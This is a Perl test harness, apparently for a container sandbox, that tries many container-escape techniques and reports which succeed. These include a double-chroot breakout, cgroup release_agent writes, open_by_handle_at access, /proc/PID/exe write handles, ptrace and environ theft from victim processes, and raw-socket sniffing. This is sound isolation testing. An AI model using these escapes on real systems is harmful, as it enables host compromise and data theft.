# What an attacker tries from inside a pod, with nothing but perl and system calls. "did: ..." says that a call went
# through, "loot: ..." shows what was read; everything else is a refusal. Run as: perl attack.pl run=NAME,... KEY=VALUE ...
$| = 1; # no modules: the image has the interpreter alone
my %given = map { my ($key, $value) = split /=/, $_, 2; ($key, $value // 1) } @ARGV;
my $is_arm = ($given{arch} // "x64") eq "arm64";
my %number = (
  mount => [165, 40], unshare => [272, 97], mknodat => [259, 33], init_module => [175, 105], delete_module => [176, 106],
  kexec_load => [246, 104], reboot => [169, 142], adjtimex => [159, 171], ptrace => [101, 117], name_to_handle_at => [303, 264],
  open_by_handle_at => [304, 265], add_key => [248, 217], keyctl => [250, 219], syslog => [103, 116], bpf => [321, 280],
  getpid => [39, 172], fchdir => [81, 50], perf_event_open => [298, 241], io_uring_setup => [425, 425],
);
sub call { my $name = shift; my @copy = @_; return syscall($number{$name}[$is_arm ? 1 : 0], @copy) }
sub did { print "did: @_\n" }
sub loot { my ($bytes) = @_; print "loot: ", $bytes =~ s/[^ -~]+/ /gr, "\n" if defined $bytes && length $bytes }
sub slurp { my ($path, $most) = @_; open my $file, "<", $path or return; sysread $file, my $bytes, $most // 65536; return $bytes }
sub spew { my ($path, $text) = @_; sysopen my $file, $path, 1 or return; return syswrite $file, $text }
sub mounted { my ($source, $target, $type, $flags, $data) = @_; mkdir $target; return call("mount", $source, $target, $type, $flags, $data) == 0 }
sub device { my ($path, $kind, $major, $minor) = @_; unlink $path; call("mknodat", -100, $path, $kind | 0600, $major << 8 | $minor); return $path }
sub processes { opendir my $proc, "/proc" or return; return grep { /^\d+$/ && $_ != $$ } readdir $proc }
sub victims { return grep { (slurp("/proc/$_/cmdline") // "") =~ /gantry-victim/ } processes() }
sub abstract { my ($name) = @_; socket my $to, 1, 1, 0 or return; connect $to, pack("S a*", 1, "\0$name") or return; sysread $to, my $got, 999; return $got }
sub leave_root { mkdir "/tmp/c"; chdir "/"; chroot "/tmp/c" or return; chdir ".." for 1 .. 64; return chroot "." }
my ($CHR, $BLK) = (0020000, 0060000);

my %attacks = (
  # What anybody may do: shows that this program reads, writes and makes system calls in the place it runs in.
  able => sub {
    spew((sysopen(my $made, "/tmp/able", 0102, 0600) and "/tmp/able"), "text") and slurp("/tmp/able") eq "text" and did("read and write");
    did("system calls") if call("getpid") == $$;
  },
  mount => sub {
    did("tmpfs") if mounted("none", "/tmp/m", "tmpfs", 0, 0);
    device("/tmp/disk", $BLK, $given{major}, $given{minor});
    mounted($_, "/tmp/d", "erofs", 1, 0) and loot(slurp("/tmp/d/secret")) for "/tmp/disk", "/dev/loop$given{minor}";
  },
  remount => sub {
    did("remounted") if mounted("none", "/ro", "none", 32 | 4096, 0);
    spew("/ro/file", "planted") and did("written");
  },
  sysctl => sub {
    spew("/proc/sys/$given{sysctl}", "$given{value}\n") and did("written");
    mounted("proc", "/tmp/p", "proc", 0, 0) and spew("/tmp/p/sys/$given{sysctl}", "$given{value}\n") and did("written through a new mount");
  },
  sysrq => sub { # "h" only prints a help text
    mounted("proc", "/tmp/q", "proc", 0, 0);
    for ("/proc", "/tmp/q") { spew("$_/sysrq-trigger", "h") and did("triggered through $_") }
  },
  disk => sub { loot(slurp($_)) for device("/tmp/raw", $BLK, $given{major}, $given{minor}), "/dev/loop$given{minor}" },
  kmsg => sub { for ("/dev/kmsg", device("/tmp/kmsg", $CHR, 1, 11)) { spew($_, "<4>$given{marker}\n") and did("written to $_") } },
  memory => sub {
    mounted("proc", "/tmp/k", "proc", 0, 0); mounted("dev", "/tmp/dev", "devtmpfs", 0, 0);
    my @made = (device("/tmp/mem", $CHR, 1, 1), device("/tmp/port", $CHR, 1, 4));
    for (@made, "/tmp/dev/mem", "/tmp/dev/port", "/proc/kcore", "/tmp/k/kcore") { did("read $_") if length(slurp($_, 1) // "") }
  },
  module => sub { # bytes that are no module, and the name of none: whoever may do it gets another error than EPERM
    for ([init_module => "x" x 64, 64, ""], [delete_module => "gantry_none", 0x800]) {
      my ($name, @rest) = @$_;
      did("$name: $!") if call($name, @rest) < 0 && $! != 1 && $! != 38;
    }
  },
  reboot => sub {
    did("kexec") if call("kexec_load", 0, 0, 0, 0) == 0;
    call("reboot", 0xfee1dead, 672274793, 0x1234, 0) < 0 && $! == 22 and did("reboot only lacks a command"); # EINVAL, not EPERM
  },
  clock => sub { did("adjusted") if call("adjtimex", pack("L x4 q x192", 0x8001, 0)) >= 0 },
  ptrace => sub { for (victims()) { did("attached") if call("ptrace", 0x4206, $_ + 0, 0, 0) == 0; loot(slurp("/proc/$_/environ")) } },
  init => sub {
    return if (slurp("/proc/1/cmdline") // "") =~ /attacker-app/; # the app itself
    did("attached") if call("ptrace", 0x4206, 1, 0, 0) == 0;
    sysopen my $memory, "/proc/1/mem", 2 and did("opened its memory");
    opendir my $root, "/proc/1/root/" and did("opened its root");
  },
  hostfile => sub { for my $pid (processes()) { loot(slurp("/proc/$pid/$_$given{secret}")) for "root", "cwd/../../../../../../.." } },
  neighbour => sub { loot(slurp("/proc/$_/root/victim/secret")) for processes() },
  environ => sub { for (processes()) { my $all = slurp("/proc/$_/environ") // ""; loot($1) if $all =~ /(VICTIM_SECRET=[^\0]*)/ } },
  signal => sub { kill "USR1", $_ for victims() },
  hostsocket => sub { loot(abstract($given{hostsocket})) },
  podsocket => sub { loot(abstract($given{podsocket})) },
  shm => sub { my $id = shmget $given{shm}, 0, 0; my $got; defined $id and shmread $id, $got, 0, 64 and loot($got) },
  cgroup => sub {
    my $before = slurp("/proc/self/cgroup");
    mounted("none", "/tmp/cg", "cgroup2", 0, 0); mounted("none", "/tmp/cg1", "cgroup", 0, "pids");
    for (grep { / cgroup2? / } split /\n/, slurp("/proc/self/mounts") // "") {
      my $at = (split / /)[1];
      spew("$at$_/cgroup.procs", "$$\n") for "", "/..", "/../..";
      spew("$at/pids.max", "max\n") and did("raised the limit of processes");
    }
    did("moved") if (slurp("/proc/self/cgroup") // "") ne ($before // "");
  },
  release => sub {
    mounted("none", "/tmp/ra", "cgroup", 0, "pids");
    for (grep { / cgroup / } split /\n/, slurp("/proc/self/mounts") // "") {
      my $at = (split / /)[1] . "/gantry-escape";
      mkdir $at or next;
      my $before = slurp("$at/../release_agent") // "";
      spew("$at/../release_agent", "/tmp/agent\n") and did("release_agent written");
      spew("$at/../release_agent", length $before ? $before : "\n");
      spew("$at/notify_on_release", "1\n") and did("release asked for");
      rmdir $at;
    }
  },
  selfexe => sub {
    my (%held, %wanted); $wanted{$_} = 1 for split /,/, $given{inodes};
    for (my $end = time + 4; time < $end;) {
      for my $pid (processes()) {
        my ($device, $inode) = stat "/proc/$pid/exe" or next;
        next if $held{$inode} || !$wanted{$inode};
        my $file; open $file, "<", "/proc/$pid/exe" and $held{$inode} = $file;
      }
      for my $inode (keys %held) { sysopen my $write, "/proc/self/fd/" . fileno($held{$inode}), 1 and did("can write $inode") and return }
      select undef, undef, undef, 0.002;
    }
  },
  handle => sub {
    for my $near ("/volume", "/") {
      opendir my $dir, $near or next;
      my $fd = call("open_by_handle_at", fileno($dir), pack("H*", $given{handle}), 0);
      next if $fd < 0;
      did("opened");
      my $file; open $file, "<&=", $fd and loot(scalar <$file>);
    }
  },
  keyring => sub {
    for (-4, -5, -3) {
      my $id = call("keyctl", 10, $_, "user", $given{key}, 0);
      my $got = "\0" x 99;
      $id > 0 and syscall($number{keyctl}[$is_arm ? 1 : 0], 11, $id, $got, 99, 0) > 0 and loot($got);
    }
  },
  userns => sub {
    for (0, 1) { # the kernel refuses it in a chroot, so leave that first
      leave_root() if $_;
      call("unshare", 0x10020000) == 0 and did("new user and mount namespace") and return;
    }
  },
  kernellog => sub {
    my $all = "\0" x 1048576;
    syscall($number{syslog}[$is_arm ? 1 : 0], 3, $all, length $all) > 0 and $all =~ /($given{hostmarker})/ and loot($1);
    for ("/dev/kmsg", device("/tmp/kmsg2", $CHR, 1, 11)) {
      sysopen my $log, $_, 04000 or next;
      while (sysread $log, my $line, 8192) { loot($1) if $line =~ /($given{hostmarker})/ }
    }
  },
  bpf => sub {
    my $program = pack("C C s l C C s l", 0xb7, 0, 0, 0, 0x95, 0, 0, 0);
    my $attributes = pack("L L P P x96", 1, 2, $program, "GPL");
    did("loaded") if call("bpf", 5, $attributes, length $attributes) >= 0;
  },
  perf => sub { did("opened") if call("perf_event_open", pack("L L Q x112", 1, 128, 0), -1, 0, -1, 0) >= 0 },
  uring => sub { did("made") if call("io_uring_setup", 1, "\0" x 120) >= 0 },
  sniff => sub {
    socket my $raw, 17, 3, 0x0300 or return;
    did("listening");
    for (my $end = time + 4; time < $end;) { recv $raw, my $frame, 2000, 0; loot($1) and return if $frame =~ /($given{sniffed})/ }
  },
  descriptors => sub {
    for my $fd (3 .. 255) {
      loot(slurp("/proc/self/fd/$fd/../../../../../../../..$given{secret}"));
      call("fchdir", $fd) == 0 and loot(slurp("../../../../../../../..$given{secret}"));
    }
  },
  chroot => sub {
    leave_root() and loot(slurp($given{secret}));
  },
  loopback => sub {
    for ([127, 0, 0, 1], [10, 126, 0, 1]) {
      socket my $to, 2, 1, 0 or next;
      connect $to, pack("S n C4 x8", 2, $given{port}, @$_) or next;
      sysread $to, my $got, 999; loot($got);
    }
  },
);

# The other side: processes worth attacking, and preparations only the host can make.
my %roles = (
  victim => sub {
    my $hits = $given{hits};
    if ($given{file}) { open my $file, ">", "/victim/secret"; print $file $given{file}; close $file }
    $SIG{USR1} = sub { open my $file, ">", $hits };
    my $shm = shmget $given{shm}, 64, 01600; shmwrite $shm, $given{loot}, 0, 64 if defined $shm;
    $SIG{TERM} = sub { shmctl $shm, 0, 0 if defined $shm; exit 0 };
    socket my $socket, 1, 1, 0; bind $socket, pack("S a*", 1, "\0$given{socket}"); listen $socket, 9;
    print "ready\n";
    while (1) { accept my $to, $socket or next; syswrite $to, $given{loot} }
  },
  wait => sub { print "ready\n"; sleep 3600 while 1 },
  key => sub {
    my $id = call("add_key", "user", $given{key}, $given{loot}, length $given{loot}, -4);
    call("keyctl", 5, $id, 0x3f3f0000); # its user may do everything with it
    print "$id\n";
  },
  unkey => sub { call("keyctl", 9, $given{id} + 0, -4) },
  handle => sub {
    my ($handle, $mount) = (pack("L l x128", 128, 0), "\0" x 4);
    syscall($number{name_to_handle_at}[$is_arm ? 1 : 0], -100, $given{path}, $handle, $mount, 0) == 0 or die "handle: $!";
    print unpack("H*", substr $handle, 0, 8 + unpack("L", $handle)), "\n";
  },
);
if (my $role = $given{role}) { $roles{$role}->(); exit 0 }
for my $name (split /,/, $given{run}) {
  print "== $name\n";
  my $child = fork // die "fork: $!";
  if ($child == 0) { alarm 8; $attacks{$name}->(); exit 0 }
  waitpid $child, 0;
}
